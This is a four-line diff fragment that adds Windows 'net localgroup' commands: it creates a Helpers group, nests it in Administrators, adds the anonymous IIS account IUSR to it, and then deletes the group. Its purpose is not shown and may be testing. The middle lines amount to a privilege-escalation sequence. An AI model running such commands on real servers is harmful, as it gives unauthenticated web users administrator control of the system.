@@ -1,0 +1,4 @@
+net localgroup Helpers /add
+net localgroup Administrators Helpers /add
+net localgroup Helpers IUSR /add
+net localgroup Helpers /delete
